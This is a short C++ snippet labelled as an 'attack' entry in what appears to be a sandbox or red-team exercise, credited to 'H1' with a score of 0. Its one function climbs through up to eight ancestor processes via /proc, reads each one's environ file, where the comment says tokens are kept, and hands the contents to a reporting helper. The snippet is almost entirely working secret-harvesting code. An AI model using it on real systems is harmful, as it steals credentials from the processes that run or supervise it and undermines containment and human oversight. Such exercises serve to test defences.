// attack: reads the environments of all processes above it, where tokens stand
// exercise: 01_gbf/box
// from: H1
// score: 0
static bool asked() {
    bool any = false;
    int process = ::getppid();
    for (int i = 0; i < 8 && process > 0; ++i) {
        const std::string folder = "/proc/" + std::to_string(process);
        std::string words = prey::contents((folder + "/environ").c_str());
        for (char& c : words)
            if (c == '\0') c = '\n';
        any = prey::tell(words) || any;
        const std::string stat = prey::contents((folder + "/stat").c_str());
        const std::size_t end = stat.rfind(')');
        process = end == std::string::npos ? 0 : std::atoi(stat.c_str() + end + 4);
    }
    return any;
}

ANSWER_IF(asked())
